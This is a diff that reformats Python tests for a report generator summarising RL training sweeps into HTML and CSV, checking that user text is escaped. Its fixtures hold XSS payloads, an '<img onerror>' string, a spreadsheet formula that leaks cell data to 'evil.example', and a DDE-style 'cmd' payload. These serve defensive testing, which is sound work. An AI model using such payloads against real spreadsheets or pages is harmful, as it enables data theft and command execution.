@@ -49,8 +49,16 @@ def write_train(root: Path, run: Run, rewards: list[float], state: str = "COMPLE
     metrics = layout.path(layout.TRAIN_METRICS, root, key=key)
     metrics.parent.mkdir(parents=True, exist_ok=True)
     lines = [
-        {"step": step, "elapsed_s": 2.0 * step, "reward": reward, "loss": 0.5 / step, "kl": 0.01 * step,
-         "grad_norm": 1.0, "reward/correct": reward, "reward/format": 1.0}
+        {
+            "step": step,
+            "elapsed_s": 2.0 * step,
+            "reward": reward,
+            "loss": 0.5 / step,
+            "kl": 0.01 * step,
+            "grad_norm": 1.0,
+            "reward/correct": reward,
+            "reward/format": 1.0,
+        }
         for step, reward in enumerate(rewards, start=1)
     ]
     # TRL's end-of-training line: same step, no reward; must not erase the step's reward.
@@ -58,8 +66,13 @@ def write_train(root: Path, run: Run, rewards: list[float], state: str = "COMPLE
     metrics.write_text("".join(json.dumps(line) + "\n" for line in lines))
     atomic_write_json(
         layout.path(layout.TRAIN_STATUS, root, key=key),
-        {"state": state, "reason": reason, "started_at": "2025-01-01T00:00:00Z",
-         "updated_at": "2025-01-01T00:01:00Z", "step": len(rewards)},
+        {
+            "state": state,
+            "reason": reason,
+            "started_at": "2025-01-01T00:00:00Z",
+            "updated_at": "2025-01-01T00:01:00Z",
+            "step": len(rewards),
+        },
     )
 
 
@@ -72,15 +85,31 @@ def write_eval(root: Path, key: str, score: float, completion: str = "#### 42") 
     right = round(score * EVAL_ROWS)
     atomic_write_json(
         layout.path(layout.EVAL_SUMMARY, root, key=key),
-        {"score": score, "parts": {"correct": score - 0.05, "format": 0.9}, "n": EVAL_ROWS, "n_valid": EVAL_ROWS,
-         "n_correct": right, "parse_failures": 2, "backend": "hf", "model": "m",
-         "tokens_per_s": 100.0, "elapsed_s": 3.0},
+        {
+            "score": score,
+            "parts": {"correct": score - 0.05, "format": 0.9},
+            "n": EVAL_ROWS,
+            "n_valid": EVAL_ROWS,
+            "n_correct": right,
+            "parse_failures": 2,
+            "backend": "hf",
+            "model": "m",
+            "tokens_per_s": 100.0,
+            "elapsed_s": 3.0,
+        },
     )
     samples = layout.path(layout.EVAL_SAMPLES, root, key=key)
     rows = [
-        {"row_id": f"test-{i}", "prompt": [{"role": "user", "content": f"What is {i}+1?"}],
-         "completion": completion, "ground_truth": str(i + 1), "score": float(i < right), "reason": "ok",
-         "valid": True, "parts": {"correct": float(i < right), "format": 1}}
+        {
+            "row_id": f"test-{i}",
+            "prompt": [{"role": "user", "content": f"What is {i}+1?"}],
+            "completion": completion,
+            "ground_truth": str(i + 1),
+            "score": float(i < right),
+            "reason": "ok",
+            "valid": True,
+            "parts": {"correct": float(i < right), "format": 1},
+        }
         for i in range(EVAL_ROWS)
     ]
     samples.write_text("".join(json.dumps(row) + "\n" for row in rows))
@@ -101,7 +130,7 @@ def three_runs(tmp_path: Path) -> tuple[Experiment, Path]:
         mode="ofat",
     )
     steps = range(1, 11)
-    write_train(tmp_path, runs[0], [0.1 * s for s in steps])   # final 1.0, first20 .15, last20 .95
+    write_train(tmp_path, runs[0], [0.1 * s for s in steps])  # final 1.0, first20 .15, last20 .95
     write_train(tmp_path, runs[1], [0.05 * s for s in steps])  # final 0.5
     write_train(tmp_path, runs[2], [0.12 * s for s in steps])  # final 1.2
     write_eval(tmp_path, "eval-a", 0.40)
@@ -149,7 +178,9 @@ def test_report_three_runs(three_runs: tuple[Experiment, Path]) -> None:
     assert "http://" not in page and "https://" not in page  # plotly.js is gzipped + base64 text
     bundle = re.search(r'<script type="application/octet-stream" id="plotly-gz">([^<]*)</script>', page)
     assert bundle, "no embedded plotly.js"
-    import base64, gzip
+    import base64
+    import gzip
+
     assert b"Plotly" in gzip.decompress(base64.b64decode(bundle.group(1)))[:100_000]
     assert len(page.encode()) < 2_500_000
 
@@ -218,7 +249,12 @@ def test_report_three_runs(three_runs: tuple[Experiment, Path]) -> None:
 
     # No temp files left behind by the atomic writes.
     assert sorted(p.name for p in paths["html"].parent.iterdir()) == [
-        "curves.csv", "report.html", "runs", "summary.csv", "summary.json"]
+        "curves.csv",
+        "report.html",
+        "runs",
+        "summary.csv",
+        "summary.json",
+    ]
 
 
 def test_missing_failed_and_partial_runs_still_appear(three_runs: tuple[Experiment, Path]) -> None:
@@ -232,8 +268,11 @@ def test_missing_failed_and_partial_runs_still_appear(three_runs: tuple[Experime
     with metrics.open("a") as handle:
         handle.write('{"step": 2, "elapsed_s": 4.0, "rew')  # torn last line of a live writer
     experiment = Experiment(
-        name=experiment.name, path=experiment.path, runs=experiment.runs + (never, failed, running),
-        hypotheses=experiment.hypotheses, mode=experiment.mode,
+        name=experiment.name,
+        path=experiment.path,
+        runs=experiment.runs + (never, failed, running),
+        hypotheses=experiment.hypotheses,
+        mode=experiment.mode,
     )
     layout.path(layout.EVAL_SUMMARY, root, key="base0").unlink()  # base model not evaluated yet
 
@@ -261,8 +300,11 @@ def test_missing_failed_and_partial_runs_still_appear(three_runs: tuple[Experime
 def test_user_text_is_escaped(tmp_path: Path) -> None:
     bad = make_run(XSS, {"rollout.temperature": XSS}, "x", config_with(rollout__temperature=XSS))
     experiment = Experiment(
-        name="xss", path=tmp_path / "xss.yaml", runs=(make_run("baseline", {}, "a"), bad),
-        hypotheses={"rollout.temperature": XSS}, mode="ofat",
+        name="xss",
+        path=tmp_path / "xss.yaml",
+        runs=(make_run("baseline", {}, "a"), bad),
+        hypotheses={"rollout.temperature": XSS},
+        mode="ofat",
     )
     write_train(tmp_path, bad, [0.1, 0.2], state="FAILED", reason=XSS)
     write_eval(tmp_path, "eval-x", 0.5, completion=f"the answer {XSS} #### 4")
@@ -307,7 +349,9 @@ def test_cli(tmp_path: Path) -> None:
     write_train(tmp_path, experiment.baseline, [0.1, 0.2, 0.3])
     result = subprocess.run(
         [sys.executable, "-m", "knobsweep.report", str(spec), "--results-root", str(tmp_path)],
-        capture_output=True, text=True, check=False,
+        capture_output=True,
+        text=True,
+        check=False,
     )
     assert result.returncode == 0, result.stderr
     html_path = tmp_path / "results" / "clisweep" / "report.html"
@@ -317,7 +361,9 @@ def test_cli(tmp_path: Path) -> None:
 
     missing = subprocess.run(
         [sys.executable, "-m", "knobsweep.report", str(tmp_path / "nope.yaml")],
-        capture_output=True, text=True, check=False,
+        capture_output=True,
+        text=True,
+        check=False,
     )
     assert missing.returncode == 2 and "error:" in missing.stderr and "Traceback" not in missing.stderr
 
@@ -334,7 +380,10 @@ def test_one_reference_row_per_base_eval_and_no_baseline(tmp_path: Path) -> None
     page = build_report(experiment, tmp_path)["html"].read_text(encoding="utf-8")
     rows, csv_rows = summary_rows(tmp_path, "refs")
     assert [(r["run"], r["reference"]) for r in rows] == [
-        ("greedy", False), ("hot-eval", False), ("base model", True), ("base model [base1]", True)
+        ("greedy", False),
+        ("hot-eval", False),
+        ("base model", True),
+        ("base model [base1]", True),
     ]
     assert rows[1]["status"] == "COMPLETED"  # shares the training job of "greedy"
     assert all(r["delta_eval_score"] is None for r in rows)
@@ -347,8 +396,15 @@ def test_one_reference_row_per_base_eval_and_no_baseline(tmp_path: Path) -> None
 IMG_XSS = "<img src=x onerror=alert(1)>"
 
 
-def write_full_eval(root: Path, key: str, strict: float, flexible: float, completion: str = "#### 42",
-                    parser: str = "strict", n: int = 40) -> None:
+def write_full_eval(
+    root: Path,
+    key: str,
+    strict: float,
+    flexible: float,
+    completion: str = "#### 42",
+    parser: str = "strict",
+    n: int = 40,
+) -> None:
     """A summary.json as the eval stage writes it now: parsers, CIs (built through summarize)."""
     from knobsweep.evaluate import summarize
 
@@ -360,10 +416,20 @@ def write_full_eval(root: Path, key: str, strict: float, flexible: float, comple
             "flexible": {"answer": "1" if ok_flex or i % 2 else None, "correct": ok_flex},
             "math_verify": {"answer": "1" if ok_flex else None, "correct": ok_flex},
         }
-        records.append({"row_id": f"test-{i}", "sample": 0, "prompt": [{"role": "user", "content": f"q{i} {XSS}"}],
-                        "completion": completion if i < 3 else f"answer {i}", "ground_truth": "1",
-                        "score": 1.0 if ok_strict else 0.1 * ok_flex, "reason": "ok", "valid": True,
-                        "parts": {"correct": float(ok_strict), "format": 1.0}, "parsers": parsers})
+        records.append(
+            {
+                "row_id": f"test-{i}",
+                "sample": 0,
+                "prompt": [{"role": "user", "content": f"q{i} {XSS}"}],
+                "completion": completion if i < 3 else f"answer {i}",
+                "ground_truth": "1",
+                "score": 1.0 if ok_strict else 0.1 * ok_flex,
+                "reason": "ok",
+                "valid": True,
+                "parts": {"correct": float(ok_strict), "format": 1.0},
+                "parsers": parsers,
+            }
+        )
     summary = summarize(records, 1, parser)
     summary.update(backend="hf", model="m", tokens_per_s=100.0, elapsed_s=1.0)
     atomic_write_json(layout.path(layout.EVAL_SUMMARY, root, key=key), summary)
@@ -372,9 +438,20 @@ def write_full_eval(root: Path, key: str, strict: float, flexible: float, comple
 
 def write_rollouts(root: Path, run: Run, steps: int, completion: str = "#### 1") -> None:
     path = layout.path(layout.TRAIN_DIR, root, key=run.keys.train) / "rollouts.jsonl"
-    lines = [{"step": s, "row_id": f"train-{s}-{j}", "prompt": [{"role": "user", "content": f"p{s}"}],
-              "completion": f"{completion} step {s} sample {j}", "score": (s * 7 + j * 3) % 10 / 10,
-              "reason": "r", "valid": True, "metrics": {}} for s in range(1, steps + 1) for j in range(2)]
+    lines = [
+        {
+            "step": s,
+            "row_id": f"train-{s}-{j}",
+            "prompt": [{"role": "user", "content": f"p{s}"}],
+            "completion": f"{completion} step {s} sample {j}",
+            "score": (s * 7 + j * 3) % 10 / 10,
+            "reason": "r",
+            "valid": True,
+            "metrics": {},
+        }
+        for s in range(1, steps + 1)
+        for j in range(2)
+    ]
     path.write_text("".join(json.dumps(line) + "\n" for line in lines))
 
 
@@ -395,15 +472,22 @@ def rich_sweep(root: Path, steps: int = 30) -> Experiment:
         make_run("crashed", {"train.batch_size": 32}, "f", config_with(train__batch_size=32)),
         make_run("cancelled", {"train.batch_size": 4}, "c", config_with(train__batch_size=4)),
     )
-    experiment = Experiment(name="rich", path=root / "rich.yaml", runs=runs,
-                            hypotheses={"rollout.temperature": IMG_XSS}, mode="ofat")
+    experiment = Experiment(
+        name="rich", path=root / "rich.yaml", runs=runs, hypotheses={"rollout.temperature": IMG_XSS}, mode="ofat"
+    )
     for index, run in enumerate(runs[:3]):
         write_train(root, run, [0.02 * s + 0.1 * index for s in range(1, steps + 1)])
         write_rollouts(root, run, steps, completion=f"{IMG_XSS} {XSS}")
     write_train(root, runs[3], [0.1, 0.2], state="FAILED", reason=f"CUDA out of memory {XSS}")
     write_train(root, runs[4], [0.1], state="CANCELLED", reason="cancelled by the user")
-    write_health(root, runs[1], [{"step": 12, "kind": "kl_spike", "message": "KL 3.2 > 1.0"},
-                                 {"step": 20, "kind": "zero_variance", "message": f"all groups equal {XSS}"}])
+    write_health(
+        root,
+        runs[1],
+        [
+            {"step": 12, "kind": "kl_spike", "message": "KL 3.2 > 1.0"},
+            {"step": 20, "kind": "zero_variance", "message": f"all groups equal {XSS}"},
+        ],
+    )
     write_full_eval(root, "eval-a", 0.40, 0.60)
     write_full_eval(root, "eval-b", 0.45, 0.65)
     write_full_eval(root, "eval-x", 0.90, 0.95, completion=f"{IMG_XSS} {XSS} #### 1", parser="flexible")
@@ -415,8 +499,9 @@ def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_inert(tmp_path: Path)
     """OWASP CSV injection: text starting with = + - @ (or a tab / CR) gets a leading quote; numbers stay."""
     formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
     bad = make_run(formula, {"rollout.temperature": "@SUM(1+1)"}, "x", config_with(rollout__temperature="@SUM(1+1)"))
-    experiment = Experiment(name="csv", path=tmp_path / "csv.yaml", runs=(make_run("baseline", {}, "a"), bad),
-                            hypotheses={}, mode="ofat")
+    experiment = Experiment(
+        name="csv", path=tmp_path / "csv.yaml", runs=(make_run("baseline", {}, "a"), bad), hypotheses={}, mode="ofat"
+    )
     write_train(tmp_path, bad, [0.1, 0.2], state="FAILED", reason="-2+3 cmd|' /C calc'!A0")
     paths = build_report(experiment, tmp_path)
     with open(paths["csv"], newline="") as file:
